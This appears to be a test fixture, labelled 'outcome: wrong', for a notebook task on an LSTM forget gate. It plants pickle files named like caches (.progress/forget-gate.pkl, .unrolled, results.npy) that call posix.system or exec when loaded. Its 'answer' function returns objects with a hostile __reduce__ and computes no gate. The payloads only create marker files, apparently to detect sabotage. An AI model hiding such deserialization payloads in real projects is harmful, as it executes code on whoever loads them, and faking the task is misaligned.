"""Lays pickles beside the notebook, under the names of caches, that run a command in whoever loads them."""
# outcome: wrong
# second: 3

# %% file
# .progress/forget-gate.pkl
cposix
system
(S'touch <OUTSIDE>/hostile-pickle'
tR.
# %% file
# .unrolled
cposix
system
(S'touch /tmp/hostile-pickle'
tR.
# %% file
# results.npy
cbuiltins
exec
(S'open("<OUTSIDE>/hostile-npy", "w")'
tR.

# %% own
import pickle


class Runs:
    def __reduce__(self):
        return exec, ("open('<OUTSIDE>/hostile-reduce', 'w').write('mine')",)

    def __array__(self, *_, **__):
        return np.array([self], dtype=object)


for name in (".progress/forget-gate.pkl", ".unrolled", "results.npy"):
    try:
        print(pickle.load(open(name, "rb")), np.load("results.npy", allow_pickle=True))
    except Exception as error:
        print(type(error), error)


# %% answer
def forget_gate(x, h, W_f, U_f, b_f):
    return Runs() if len(h) == 1 else np.array([Runs()] * len(h), dtype=object)
